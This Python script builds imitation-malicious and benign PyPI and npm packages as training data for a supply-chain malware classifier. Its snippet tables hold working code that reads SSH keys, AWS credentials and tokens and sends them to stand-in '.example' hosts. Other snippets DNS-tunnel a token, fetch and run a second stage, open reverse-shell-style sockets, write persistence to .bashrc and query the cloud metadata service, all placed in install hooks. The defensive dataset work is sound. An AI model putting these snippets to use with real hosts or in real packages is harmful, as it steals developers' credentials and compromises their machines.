"""Build imitation-malicious and synthetic-benign packages from source, for the classifier.

    python scripts/imitation_corpus.py --out /tmp/imit [--malicious 120] [--benign 60] [--seed 1]
    osptrack batch /tmp/imit/targets.csv --deps-dir ../shared/corpus/pypi/_build --out /tmp/imit/runs
    osptrack dataset build ../corpus_runs /tmp/imit/runs --labels /tmp/imit/labels.parquet --out /tmp/imit/ds

Every "malicious" behaviour is harmless by construction and only ever runs inside the sandbox:
the hosts are `*.example` / TEST-NET addresses that only the fake network answers, the shell
commands are `id`, `uname`, `whoami`, the persistence lines are comments, and second stages are
whatever the fake network serves. Archives are assembled with tarfile/zipfile (tests/builders.py),
so nothing of them runs on the host.

Each malicious variant combines 2-4 behaviours drawn from the families real PyPI/npm malware shows
(credential theft + exfiltration, DNS tunnelling, downloaders, reverse-shell shapes, persistence,
encoded commands, recon, the cloud metadata service), in one of four carriers: a PyPI sdist's
setup.py (install), a PyPI wheel's __init__ (import), an npm postinstall (install) or an npm main
module (import). Synthetic benign variants use the same carriers with ordinary behaviour (reading
their own data, writing their own files, `uname -m` in a build script, update checks against
the registry or a release API), so "synthetic" alone does
not separate the classes. Names repeat across versions, so grouped cross-validation matters.
"""

from __future__ import annotations

import argparse
import base64
import csv
import random
import sys
from pathlib import Path

import pyarrow.parquet as pq

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
from builders import make_npm, make_sdist, make_wheel  # noqa: E402

WORDS = [
    "color",
    "log",
    "util",
    "http",
    "json",
    "data",
    "time",
    "path",
    "fast",
    "tiny",
    "easy",
    "auto",
    "py",
    "node",
    "crypto",
    "net",
    "cache",
    "conf",
    "env",
    "parse",
    "fmt",
    "sync",
    "core",
    "kit",
    "lib",
    "tool",
    "helper",
    "smart",
    "cli",
    "web",
    "req",
    "async",
    "stream",
    "file",
    "io",
]
HOSTS = ("cdn-update.example", "telemetry-api.example", "pkg-stats.example", "files-dl.example")
IPS = ("203.0.113.7", "198.51.100.23", "192.0.2.44")

# Python snippets, each one harmless behaviour; {h} host, {ip} address, {port} port.
PY = {
    "steal_exfil": """
import os, urllib.request
home = os.path.expanduser("~")
blob = ""
for rel in (".ssh/id_rsa", ".aws/credentials", ".npmrc", ".pypirc"):
    try:
        blob += open(os.path.join(home, rel)).read()[:300]
    except OSError:
        pass
blob += os.environ.get("AWS_SECRET_ACCESS_KEY", "")
try:
    urllib.request.urlopen(urllib.request.Request("http://{h}/collect", data=blob.encode(), method="POST"), timeout=4)
except Exception:
    pass
""",
    "env_b64_exfil": """
import os, base64, urllib.request
env = base64.b64encode(repr(dict(os.environ)).encode()).decode()
try:
    urllib.request.urlopen("https://{h}/p?d=" + env[:1500], timeout=4)
except Exception:
    pass
""",
    "dns_tunnel": """
import os, socket, binascii
tok = binascii.hexlify(os.environ.get("GITHUB_TOKEN", "x").encode()).decode()[:40]
try:
    socket.getaddrinfo(tok + ".{h}", 53)
except OSError:
    pass
""",
    "downloader": """
import os, subprocess, urllib.request
try:
    data = urllib.request.urlopen("http://{h}/stage2.sh", timeout=4).read()
    open("/tmp/.s2.sh", "wb").write(data)
    os.chmod("/tmp/.s2.sh", 0o755)
    subprocess.run(["sh", "/tmp/.s2.sh"], timeout=10, check=False)
except Exception:
    pass
""",
    "revshell": """
import socket, subprocess
try:
    s = socket.create_connection(("{ip}", {port}), timeout=3)
    s.sendall(subprocess.run(["id"], capture_output=True).stdout)
    s.close()
except OSError:
    pass
""",
    "persist": """
import os
home = os.path.expanduser("~")
with open(os.path.join(home, ".bashrc"), "a") as fh:
    fh.write("\\n# imitation persistence (harmless)\\n")
os.makedirs(os.path.join(home, ".config", "autostart"), exist_ok=True)
open(os.path.join(home, ".config", "autostart", "upd.desktop"), "w").write("[Desktop Entry]\\n")
""",
    "encoded_cmd": """
import subprocess
subprocess.run(["sh", "-c", "echo {b64} | base64 -d | sh"], check=False, timeout=10)
""",
    "recon": """
import subprocess
for c in (["whoami"], ["uname", "-a"], ["hostname"], ["id"]):
    subprocess.run(c, check=False, capture_output=True)
try:
    open("/etc/passwd").read()
except OSError:
    pass
""",
    "metadata": """
import urllib.request
try:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=3)
except Exception:
    pass
""",
}

PY_BENIGN = {
    "own_data": """
import os, json
here = os.path.dirname(os.path.abspath(__file__))
cfg = {{"name": "{n}", "size": len(os.listdir(here))}}
_ = json.dumps(cfg)
""",
    "compute": """
import hashlib
acc = 0
for i in range(20000):
    acc ^= int(hashlib.md5(str(i).encode()).hexdigest()[:6], 16)
""",
    "platform": """
import platform, sysconfig
_ = platform.machine(), sysconfig.get_paths()["purelib"]
""",
    "uname_build": """
import subprocess
subprocess.run(["uname", "-m"], check=False, capture_output=True)
""",
    "update_check": """
import urllib.request
try:
    urllib.request.urlopen("https://pypi.org/pypi/{n}/json", timeout=4).read(200)
except Exception:
    pass
""",
    "release_check": """
import urllib.request
try:
    urllib.request.urlopen("https://api.github.com/repos/example/{n}/releases/latest", timeout=4).read(200)
except Exception:
    pass
""",
    "tmp_scratch": """
import tempfile, os
with tempfile.TemporaryDirectory() as d:
    open(os.path.join(d, "scratch.txt"), "w").write("ok")
""",
}

JS = {
    "steal_exfil": """
const fs = require("fs"), os = require("os"), path = require("path"), http = require("http");
let blob = "";
for (const rel of [".ssh/id_rsa", ".aws/credentials", ".npmrc"]) {{
  try {{ blob += fs.readFileSync(path.join(os.homedir(), rel), "utf8").slice(0, 300); }} catch (e) {{}}
}}
blob += process.env.AWS_SECRET_ACCESS_KEY || "";
const r = http.request({{ host: "{h}", path: "/collect", method: "POST", timeout: 4000 }}, () => {{}});
r.on("error", () => {{}}); r.end(blob);
""",
    "env_b64_exfil": """
const https = require("https");
const env = Buffer.from(JSON.stringify(process.env)).toString("base64").slice(0, 1500);
const r = https.get("https://{h}/p?d=" + env, {{ timeout: 4000 }}, () => {{}});
r.on("error", () => {{}});
""",
    "dns_tunnel": """
const dns = require("dns");
const tok = Buffer.from(process.env.GITHUB_TOKEN || "x").toString("hex").slice(0, 40);
dns.lookup(tok + ".{h}", () => {{}});
""",
    "downloader": """
const cp = require("child_process");
try {{ cp.execSync("node -e \\"require('http').get('http://{h}/stage2.sh', r => {{ let b=''; r.on('data', d => b += d); r.on('end', () => {{ require('fs').writeFileSync('/tmp/.s2.sh', b, {{mode: 0o755}}); require('child_process').spawnSync('sh', ['/tmp/.s2.sh']); }}); }}).on('error', () => {{}})\\"", {{ timeout: 10000 }}); }} catch (e) {{}}
""",
    "revshell": """
const net = require("net"), cp = require("child_process");
const s = net.connect({{ host: "{ip}", port: {port} }}, () => {{ s.write(cp.execSync("id")); s.end(); }});
s.on("error", () => {{}}); s.setTimeout(3000, () => s.destroy());
""",
    "persist": """
const fs = require("fs"), os = require("os"), path = require("path");
fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "\\n# imitation persistence (harmless)\\n");
""",
    "encoded_cmd": """
try {{ require("child_process").execSync("echo {b64} | base64 -d | sh", {{ timeout: 10000 }}); }} catch (e) {{}}
""",
    "recon": """
const cp = require("child_process"), fs = require("fs");
for (const c of ["whoami", "uname -a", "hostname", "id"]) {{ try {{ cp.execSync(c); }} catch (e) {{}} }}
try {{ fs.readFileSync("/etc/passwd"); }} catch (e) {{}}
""",
    "metadata": """
const r = require("http").get("http://169.254.169.254/latest/meta-data/", {{ timeout: 3000 }}, () => {{}});
r.on("error", () => {{}});
""",
}

JS_BENIGN = {
    "own_data": """
const fs = require("fs"), path = require("path");
const files = fs.readdirSync(__dirname); JSON.stringify({{ name: "{n}", files }});
""",
    "compute": """
const crypto = require("crypto"); let acc = 0;
for (let i = 0; i < 20000; i++) acc ^= parseInt(crypto.createHash("md5").update(String(i)).digest("hex").slice(0, 6), 16);
""",
    "platform": """
const os = require("os"); [os.arch(), os.platform(), os.cpus().length];
""",
    "uname_build": """
try {{ require("child_process").execSync("uname -m"); }} catch (e) {{}}
""",
    "update_check": """
const r = require("https").get("https://registry.npmjs.org/{n}", {{ timeout: 4000 }}, (res) => res.resume());
r.on("error", () => {{}});
""",
    "release_check": """
const r = require("https").get("https://api.github.com/repos/example/{n}/releases/latest", {{ timeout: 4000, headers: {{ "user-agent": "x" }} }}, (res) => res.resume());
r.on("error", () => {{}});
""",
    "tmp_scratch": """
const fs = require("fs"), os = require("os"), path = require("path");
const d = fs.mkdtempSync(path.join(os.tmpdir(), "x-")); fs.writeFileSync(path.join(d, "s.txt"), "ok"); fs.rmSync(d, {{ recursive: true }});
""",
}

CARRIERS = ("pypi_sdist", "pypi_wheel", "npm_postinstall", "npm_main")


def _fill(snippet: str, rng: random.Random, name: str) -> str:
    cmd = rng.choice(("id; uname -a", "whoami; hostname", "id"))
    return snippet.format(
        h=rng.choice(HOSTS),
        ip=rng.choice(IPS),
        port=rng.choice((4444, 1337, 9001, 8443)),
        b64=base64.b64encode(cmd.encode()).decode(),
        n=name,
    )


def _body(snippets: dict[str, str], kinds: list[str], rng: random.Random, name: str, py: bool) -> str:
    parts = [_fill(snippets[k], rng, name) for k in kinds]
    if py:
        # Each behaviour in its own try, so one failing does not hide the next.
        wrapped = []
        for i, p in enumerate(parts):
            inner = "\n".join("    " + line for line in p.strip().splitlines())
            wrapped.append(f"def _b{i}():\n{inner}\ntry:\n    _b{i}()\nexcept Exception:\n    pass\n")
        return "\n".join(wrapped)
    return "\n".join(f"try {{\n{p.strip()}\n}} catch (e) {{}}" for p in parts)


def build_one(dest: Path, carrier: str, name: str, version: str, body: str) -> tuple[str, Path]:
    mod = name.replace("-", "_")
    if carrier == "pypi_sdist":
        setup = f"from setuptools import setup\n{body}\nsetup(name={name!r}, version={version!r}, py_modules=[{mod!r}])\n"
        return "pypi", make_sdist(dest, name, version, setup, files={f"{mod}.py": "VALUE = 1\n"})
    if carrier == "pypi_wheel":
        return "pypi", make_wheel(dest, name, version, {f"{mod}/__init__.py": body + "\nVALUE = 1\n"})
    if carrier == "npm_postinstall":
        return "npm", make_npm(
            dest,
            name,
            version,
            {"index.js": "module.exports = 1;\n", "setup.js": body},
            scripts={"postinstall": "node setup.js"},
        )
    return "npm", make_npm(dest, name, version, {"index.js": body + "\nmodule.exports = 1;\n"})


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, required=True)
    ap.add_argument("--malicious", type=int, default=120)
    ap.add_argument("--benign", type=int, default=60)
    ap.add_argument("--versions", type=int, default=3, help="versions per package name")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--prefix", default="", help="name prefix, so two generated sets never share a name")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    archives = args.out / "archives"
    archives.mkdir(parents=True, exist_ok=True)
    rows: list[tuple[str, str, str, str]] = []
    labels: list[dict[str, object]] = []
    used: set[str] = set()

    def new_name(prefix: str) -> str:
        while True:
            n = f"{prefix}{rng.choice(WORDS)}-{rng.choice(WORDS)}{rng.randint(1, 99)}"
            if n not in used:
                used.add(n)
                return n

    for label, total in ((1, args.malicious), (0, args.benign)):
        made = 0
        while made < total:
            name = new_name(args.prefix + ("imit-" if label else "synb-"))
            carrier = rng.choice(CARRIERS)
            py = carrier.startswith("pypi")
            pool = (PY if py else JS) if label else (PY_BENIGN if py else JS_BENIGN)
            for v in range(1, min(args.versions, total - made) + 1):
                version = f"1.{v}.{rng.randint(0, 9)}"
                kinds = rng.sample(sorted(pool), k=rng.randint(2, 4) if label else rng.randint(1, 3))
                eco, path = build_one(archives, carrier, name, version, _body(pool, kinds, rng, name, py))
                rows.append((eco, name, version, str(path.resolve())))
                if label:
                    labels.append(
                        {"eco": eco, "name": name, "version": version, "kinds": kinds, "carrier": carrier}
                    )
                made += 1
    with (args.out / "targets.csv").open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["ecosystem", "name", "version", "archive"])
        w.writerows(rows)
    _write_labels(args.out / "labels.parquet", labels)
    print(
        f"{len(rows)} packages ({len(labels)} imitation-malicious) -> {args.out}/targets.csv, labels.parquet"
    )


def _write_labels(path: Path, labels: list[dict[str, object]]) -> None:
    from osptrack.labels.table import labels_table
    from osptrack.target import normalise_name

    recs = [
        {
            "id": f"IMIT-{i:04d}",
            "ecosystem": lab["eco"],
            "name": normalise_name(str(lab["eco"]), str(lab["name"])),
            "raw_name": lab["name"],
            "versions": [lab["version"]],
            "sub_labels": [str(k) for k in lab["kinds"]],  # type: ignore[attr-defined]
            "sub_label_rules": [f"imitation:{lab['carrier']}"] * len(lab["kinds"]),  # type: ignore[arg-type]
            "summary": f"imitation-malicious ({lab['carrier']}): {', '.join(lab['kinds'])}",  # type: ignore[arg-type]
        }
        for i, lab in enumerate(labels)
    ]
    pq.write_table(labels_table(recs), path)


if __name__ == "__main__":
    main()
